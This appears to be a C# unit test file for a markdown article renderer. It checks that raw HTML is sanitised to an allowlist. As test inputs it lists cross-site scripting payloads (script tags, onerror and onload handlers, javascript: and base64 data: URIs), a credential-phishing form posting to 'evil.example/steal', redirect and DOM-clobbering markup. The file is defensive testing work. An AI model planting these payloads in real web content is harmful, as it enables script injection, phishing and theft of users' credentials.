using ContentApi.Content;

namespace ContentApi.Tests.Content;

public sealed class ArticleBodyTests
{
    private static readonly ArticleFigure Photo = new()
    {
        Key = "photo", Url = "https://images.example.org/p.jpg", Alt = "A harbour", Caption = "The harbour at dawn", Credit = "Staff",
    };

    [Fact]
    public void Markdown_becomes_typed_blocks_html_and_text()
    {
        var body = ArticleBody.Render(
            "First *para*.\n\n## A heading\n\n{{figure photo}}\n\n> Quoted words.\n\n- one\n- two\n\n1. first\n", [Photo]);

        Assert.Collection(body.Blocks,
            b => Assert.Equal(new ParagraphBodyBlock("First <em>para</em>.", "First para."), b),
            b => Assert.Equal(new HeadingBodyBlock(2, "A heading", "a-heading"), b),
            b => Assert.Equal(new FigureBodyBlock("photo", Photo.Url, "A harbour", "The harbour at dawn", "Staff"), b),
            b => Assert.Equal(new QuoteBodyBlock("<p>Quoted words.</p>", "Quoted words."), b),
            b => Assert.Equal(["one", "two"], Assert.IsType<ListBodyBlock>(b).Items),
            b => Assert.True(Assert.IsType<ListBodyBlock>(b).Ordered));
        Assert.Contains("<figure><img src=\"https://images.example.org/p.jpg\" alt=\"A harbour\"><figcaption>The harbour at dawn <small>Staff</small></figcaption></figure>",
            body.Html, StringComparison.Ordinal);
        Assert.Equal("First para.\n\nA heading\n\nQuoted words.\n\none\ntwo\n\nfirst", body.Text);
        Assert.Equal(9, body.WordCount);
        Assert.Equal(1, body.ReadingMinutes);
    }

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("[click](javascript:alert(1))")]
    [InlineData("<a href=\"javascript:alert(1)\">x</a>")]
    [InlineData("<iframe src=\"https://evil.example\"></iframe>")]
    [InlineData("<div style=\"background:url(javascript:alert(1))\">x</div>")]
    [InlineData("<svg onload=alert(1)>")]
    public void Raw_html_in_markdown_is_sanitized(string payload)
    {
        var body = ArticleBody.Render($"Before.\n\n{payload}\n\nInline {payload} too.", []);

        foreach (var html in new[] { body.Html }.Concat(body.Blocks.Select(b => b.ToString())))
        {
            Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("javascript:", html, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("onerror", html, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("onload", html, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("<iframe", html, StringComparison.OrdinalIgnoreCase);
        }
    }

    // Markup that is not script but still lets a body act on the page around it: forms that phish or submit,
    // styles that overlay, ids and names that clobber the page's globals (window.x, document.forms).
    [Theory]
    [InlineData("<form action=\"https://evil.example/steal\" method=\"post\">Sign in</form>", "<form")]
    [InlineData("<input type=\"password\" name=\"pw\">", "<input")]
    [InlineData("<button formaction=\"https://evil.example/\">Continue</button>", "<button")]
    [InlineData("<select><option>one</option></select>", "<select")]
    [InlineData("<textarea>notes</textarea>", "<textarea")]
    [InlineData("<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">Overlay</p>", "style=")]
    [InlineData("<img id=\"config\" src=\"https://images.example.org/x.png\" alt=\"x\">", "id=")]
    [InlineData("<img name=\"getElementById\" src=\"https://images.example.org/x.png\" alt=\"x\">", "name=")]
    [InlineData("<a id=\"defaultView\" name=\"body\" href=\"https://example.org/\">link</a>", "id=")]
    [InlineData("<a name=\"cookie\" href=\"https://example.org/\">link</a>", "name=")]
    [InlineData("<span class=\"admin-only\">x</span>", "class=")]
    [InlineData("<base href=\"https://evil.example/\">", "<base")]
    [InlineData("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">", "<meta")]
    [InlineData("<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">", "<link")]
    [InlineData("<object data=\"https://evil.example/x.swf\"></object>", "<object")]
    [InlineData("<embed src=\"https://evil.example/x.swf\">", "<embed")]
    [InlineData("<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>", "data:")]
    [InlineData("> <form><input name=\"q\"></form>", "<form")]
    [InlineData("- <button>in a list</button>", "<button")]
    public void Only_allowlisted_markup_survives_in_a_body(string payload, string forbidden)
    {
        var body = ArticleBody.Render($"Before.\n\n{payload}\n\nInline {payload} too.", []);

        foreach (var html in new[] { body.Html }.Concat(body.Blocks.Select(b => b.ToString())))
        {
            Assert.DoesNotContain(forbidden, html, StringComparison.OrdinalIgnoreCase);
        }
    }

    [Fact]
    public void Ordinary_formatting_and_safe_links_survive_the_allowlist()
    {
        var body = ArticleBody.Render(
            "Some <em>raw</em> and <strong>strong</strong> words, <a href=\"https://example.org/a\" title=\"A\">a link</a>, " +
            "<a href=\"mailto:desk@example.org\">mail</a>, H<sub>2</sub>O and x<sup>2</sup>.\n\n" +
            "<table><thead><tr><th>Year</th></tr></thead><tbody><tr><td>2026</td></tr></tbody></table>\n\n" +
            "<img src=\"https://images.example.org/p.jpg\" alt=\"A harbour\" width=\"640\" height=\"480\">", []);

        Assert.Contains("<em>raw</em>", body.Html, StringComparison.Ordinal);
        Assert.Contains("<strong>strong</strong>", body.Html, StringComparison.Ordinal);
        Assert.Contains("<a href=\"https://example.org/a\" title=\"A\">a link</a>", body.Html, StringComparison.Ordinal);
        Assert.Contains("href=\"mailto:desk@example.org\"", body.Html, StringComparison.Ordinal);
        Assert.Contains("<sub>2</sub>", body.Html, StringComparison.Ordinal);
        Assert.Contains("<td>2026</td>", body.Html, StringComparison.Ordinal);
        Assert.Contains("<img src=\"https://images.example.org/p.jpg\" alt=\"A harbour\" width=\"640\" height=\"480\">", body.Html, StringComparison.Ordinal);
    }

    [Fact]
    public void Markdown_nested_beyond_the_parsers_limit_is_a_format_error_not_a_crash()
    {
        var error = Assert.Throws<FormatException>(() => ArticleBody.Render(new string('>', 200) + " deep", []));

        Assert.Contains("nested", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_placeholder_for_a_missing_figure_is_an_error_naming_it()
    {
        var error = Assert.Throws<FormatException>(() => ArticleBody.Render("{{figure nowhere}}", [Photo]));

        Assert.Contains("nowhere", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void The_excerpt_is_the_first_paragraph_cut_at_a_word()
    {
        var body = ArticleBody.Render(string.Join(' ', Enumerable.Repeat("word", 200)) + "\n\nSecond.", []);

        var excerpt = body.Excerpt(50);
        Assert.True(excerpt.Length <= 50);
        Assert.EndsWith("word…", excerpt, StringComparison.Ordinal);
    }
}
